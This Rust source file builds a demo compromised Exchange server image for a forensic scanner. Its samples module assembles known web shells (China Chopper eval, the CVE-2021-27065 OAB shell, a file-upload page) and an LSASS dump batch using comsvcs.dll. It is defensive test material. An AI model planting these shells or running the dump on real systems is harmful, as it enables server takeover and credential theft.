//! `exsweep demo`: writes a realistic compromised Exchange 2019 server (a mounted
//! image layout) with a clean install's decoys around the attacker's files, so the
//! whole scan can be tried without real evidence. The attacker files are assembled
//! here from fragments and are inert: no working shell is stored in the repository.

#[cfg(feature = "exchange-server")]
pub mod exchange_server;
pub mod hive;
pub mod iis;
pub mod logs;
pub mod pe;

use std::fs;
use std::io;
use std::path::Path;
use std::time::{Duration, SystemTime};

/// The demo's logs: enough traffic to bury the attack, small enough to scan instantly.
const DEMO_LOG_BYTES: u64 = 4 << 20;
const EXCHANGE: &str = "Program Files/Microsoft/Exchange Server/V15";

/// Samples shared by the demo and the tests, built from fragments.
pub mod samples {
    fn eval_call(param: &str) -> String {
        // Split so that no complete shell line is stored in the source.
        let (e, r) = (["ev", "al"].concat(), ["Req", "uest"].concat());
        format!("{e}({r}.Item[\"{param}\"],\"{}\")", ["un", "safe"].concat())
    }

    /// A China Chopper page (JScript eval of a request parameter).
    pub fn china_chopper() -> Vec<u8> {
        format!(
            "<%@ Page Language=\"Jscript\"%><%{};%>",
            eval_call("orange")
        )
        .into_bytes()
    }

    /// The OAB virtual-directory dump that CVE-2021-27065 writes to a page.
    pub fn oab_dump_shell() -> Vec<u8> {
        let script = format!(
            "<script language=\"JScript\" runat=\"server\">function Page_Load(){{{}}}</script>",
            eval_call("Ananas")
        );
        let props = [
            (
                "OfflineAddressBooks",
                "\\Default Offline Address Book".to_string(),
            ),
            ("RequireSSL", "True".into()),
            ("BasicAuthentication", "False".into()),
            ("InternalAuthenticationMethods", "WindowsIntegrated".into()),
            ("ExtendedProtectionTokenChecking", "None".into()),
            ("InternalUrl", "https://exch01.corp.example/OAB".into()),
            ("ExternalUrl", format!("http://f/{script}")),
            ("Server", "EXCH01".into()),
        ];
        props
            .iter()
            .map(|(k, v)| format!("{k}                      : {v}\r\n"))
            .collect::<String>()
            .into_bytes()
    }

    /// A small upload page that saves any posted file (SimpleSeeSharp style).
    pub fn upload_shell() -> Vec<u8> {
        let files = ["Request.Fi", "les[0]"].concat();
        format!(
            "<%@ Page Language=\"C#\" %><% HttpPostedFile thisFile = {files};thisFile.{}(Path.Combine(\"c:\\\\windows\\\\temp\\\\\", thisFile.FileName)); %>",
            ["Save", "As"].concat()
        )
        .into_bytes()
    }

    /// A mailbox export (PST, magic `!BDN`) planted as a page by ProxyShell.
    pub fn pst_shell() -> Vec<u8> {
        let mut pst = b"!BDN".to_vec();
        pst.extend_from_slice(&[0x8c, 0x3e, 0x53, 0x4d, 0x17, 0x00, 0x13, 0x00, 0x01, 0x01]);
        pst.resize(8192, 0);
        pst
    }

    /// The head of a Windows minidump.
    pub fn minidump() -> Vec<u8> {
        let mut dump = b"MDMP\x93\xa7\x00\x00".to_vec();
        dump.resize(4096, 0);
        dump
    }

    /// A batch file that dumps LSASS through comsvcs.dll.
    pub fn lsass_dump_batch() -> Vec<u8> {
        format!(
            "@echo off\r\nfor /f \"tokens=2\" %%i in ('tasklist ^| findstr lsass') do set P=%%i\r\nrundll32.exe C:\\Windows\\System32\\{}, {} %P% C:\\root\\lsass.dmp full\r\n",
            "comsvcs.dll",
            ["Mini", "Dump"].concat()
        )
        .into_bytes()
    }

    /// The compiled remnant of a China Chopper page in Temporary ASP.NET Files.
    pub fn compiled_chopper_dll() -> Vec<u8> {
        let wide = |s: &str| {
            s.encode_utf16()
                .flat_map(u16::to_le_bytes)
                .collect::<Vec<u8>>()
        };
        let mut dll = b"MZ\x90\x00".to_vec();
        dll.resize(512, 0);
        dll.extend_from_slice(b"Microsoft.JScript\0JScript");
        dll.extend_from_slice(b"Evaluate\0");
        dll.extend(wide("~/aspnet_client/discover.aspx"));
        dll.resize(9000, 0);
        dll
    }

    /// A zip archive's head.
    pub fn zip_archive() -> Vec<u8> {
        let mut zip = b"PK\x03\x04\x14\x00\x00\x00\x08\x00".to_vec();
        zip.resize(2048, 0x5a);
        zip
    }
}

fn put(root: &Path, rel: &str, content: &[u8], time: SystemTime) -> io::Result<()> {
    let path = root.join(rel);
    fs::create_dir_all(path.parent().expect("relative paths have a parent"))?;
    fs::write(&path, content)?;
    fs::File::options()
        .write(true)
        .open(&path)?
        .set_modified(time)
}

/// Writes the demo server below `root`.
pub fn build(root: &Path) -> io::Result<()> {
    let install = SystemTime::UNIX_EPOCH + Duration::from_secs(1_607_594_400); // 2020-12-10
                                                                               // The moment the logs show the ProxyLogon chain writing its first shell.
    let attack = SystemTime::UNIX_EPOCH + Duration::from_secs(1_614_783_168); // 2021-03-03 14:52:48 UTC
    let minutes = |m: u64| attack + Duration::from_secs(m * 60);
    let fe = format!("{EXCHANGE}/FrontEnd/HttpProxy");

    // The registry: where Setup put Exchange, its build, the computer's name.
    let setup = hive::Key::path(
        r"ROOT\Microsoft\ExchangeServer\v15\Setup",
        vec![
            (
                "MsiInstallPath",
                hive::Value::String(r"C:\Program Files\Microsoft\Exchange Server\V15\"),
            ),
            ("MsiProductMajor", hive::Value::Dword(15)),
            ("MsiProductMinor", hive::Value::Dword(2)),
            ("MsiBuildMajor", hive::Value::Dword(858)),
            ("MsiBuildMinor", hive::Value::Dword(5)),
        ],
    );
    put(
        root,
        "Windows/System32/config/SOFTWARE",
        &hive::write(&setup),
        install,
    )?;
    let name = hive::Key::path(
        r"ROOT\ControlSet001\Control\ComputerName\ComputerName",
        vec![("ComputerName", hive::Value::String("EXCH01"))],
    );
    put(
        root,
        "Windows/System32/config/SYSTEM",
        &hive::write(&name),
        install,
    )?;

    // The clean install: every page the front end's auth folders really hold.
    let page = |class: &str| {
        format!("<%@ Page Language=\"C#\" AutoEventWireup=\"true\" Inherits=\"Microsoft.Exchange.HttpProxy.{class}\" %>\r\n<!DOCTYPE html><html><body></body></html>\r\n")
    };
    for name in [
        "errorFE.aspx",
        "expiredpassword.aspx",
        "frowny.aspx",
        "logoff.aspx",
        "logon.aspx",
        "OutlookCN.aspx",
        "RedirSuiteServiceProxy.aspx",
        "signout.aspx",
    ] {
        put(
            root,
            &format!("{fe}/owa/auth/{name}"),
            page("Logon").as_bytes(),
            install,
        )?;
    }
    put(
        root,
        &format!("{fe}/owa/auth/GetIdToken.htm"),
        b"<html><head></head><body></body></html>",
        install,
    )?;
    put(
        root,
        &format!("{fe}/ecp/auth/TimeoutLogout.aspx"),
        page("TimeoutLogout").as_bytes(),
        install,
    )?;
    for build in ["15.2.858.5", "Current"] {
        put(
            root,
            &format!("{fe}/owa/auth/{build}/themes/resources/logon.css"),
            b"body{font-family:'Segoe UI'}",
            install,
        )?;
        put(
            root,
            &format!("{fe}/owa/auth/{build}/scripts/premium/flogon.js"),
            b"function clkLgn(){return true;}",
            install,
        )?;
    }
    put(
        root,
        &format!("{fe}/owa/web.config"),
        b"<?xml version=\"1.0\"?><configuration></configuration>",
        install,
    )?;
    put(
        root,
        &format!("{EXCHANGE}/ClientAccess/ecp/default.aspx"),
        page("Ecp").as_bytes(),
        install,
    )?;
    put(
        root,
        &format!("{EXCHANGE}/ClientAccess/Oab/web.config"),
        b"<?xml version=\"1.0\"?><configuration></configuration>",
        install,
    )?;
    put(
        root,
        "inetpub/wwwroot/iisstart.htm",
        b"<html><body>IIS</body></html>",
        install,
    )?;
    fs::create_dir_all(root.join("inetpub/wwwroot/aspnet_client/system_web/4_0_30319"))?;
    put(
        root,
        "Windows/Temp/vmware-vmsvc.log",
        b"[2021-03-01] Tools started\r\n",
        install,
    )?;
    put(
        root,
        "ProgramData/VMware/VMware Tools/manifest.zip",
        &samples::zip_archive(),
        install,
    )?;
    put(
        root,
        "ProgramData/Microsoft/Windows/WER/ReportQueue/AppCrash_w3wp/memory.hdmp",
        &samples::minidump(),
        install,
    )?;
    put(
        root,
        "Users/Administrator/AppData/Local/Temp/setup.log",
        b"Setup completed.\r\n",
        install,
    )?;
    put(
        root,
        "Windows/Microsoft.NET/Framework64/v4.0.30319/Temporary ASP.NET Files/owa/5a1b2c3d/9f8e7d6c/App_global.asax.x1y2z3.dll",
        b"MZ\x90\x00benign compiled global.asax",
        install,
    )?;

    // What the attackers left, in the order they left it.
    put(
        root,
        &format!("{fe}/owa/auth/OutlookEN.aspx"),
        &samples::oab_dump_shell(),
        minutes(0),
    )?;
    put(
        root,
        "inetpub/wwwroot/aspnet_client/discover.aspx",
        &samples::china_chopper(),
        minutes(3),
    )?;
    put(
        root,
        "Windows/Microsoft.NET/Framework64/v4.0.30319/Temporary ASP.NET Files/root/3a5c0b1e/App_Web_discover.aspx.cdcab7d2.x7f3qk1a.dll",
        &samples::compiled_chopper_dll(),
        minutes(4),
    )?;
    put(
        root,
        &format!("{fe}/owa/auth/Current/themes/resources/errorpage.aspx"),
        &samples::upload_shell(),
        minutes(9),
    )?;
    put(
        root,
        "Windows/Temp/d.bat",
        &samples::lsass_dump_batch(),
        minutes(12),
    )?;
    put(root, "root/lsass.dmp", &samples::minidump(), minutes(13))?;
    put(
        root,
        "ProgramData/it.zip",
        &samples::zip_archive(),
        minutes(20),
    )?;
    let later = attack + Duration::from_secs(160 * 86_400); // August 2021: ProxyShell
    put(
        root,
        "inetpub/wwwroot/aspnet_client/system_web/xqbdfmse.aspx",
        &samples::pst_shell(),
        later,
    )?;
    // Two months of a small server's logs, with the attack in them.
    logs::write(root, DEMO_LOG_BYTES)?;
    Ok(())
}
